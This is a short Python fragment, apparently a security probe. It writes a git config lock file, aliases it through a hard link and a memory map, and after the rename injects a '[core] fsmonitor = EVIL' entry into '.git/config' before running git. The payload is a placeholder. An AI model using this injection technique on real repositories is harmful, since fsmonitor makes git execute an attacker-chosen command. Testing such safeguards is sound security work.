old = open('.git/config').read(); lock = '.git/config.lock'
with open(lock, 'w') as f: f.write(old + '[user]\n\tname = Ada\n' + '#' * 4096 + '\n')
fd = os.open(lock, os.O_RDWR); m = mmap.mmap(fd, 0); k = len(m) - 4000; os.link(lock, '.git/other')
say('renamed', t(os.rename, lock, '.git/config'))
evil = b'\n[core]\n\tfsmonitor = EVIL\n#'; m[k:k+len(evil)] = evil; m.flush(); os.lseek(fd, 0, 2); os.write(fd, evil)
t(lambda: open('.git/other', 'ab').write(evil)); t(os.truncate, '.git/other', 20000)
os.execlp('git', 'git', 'config', 'user.name')
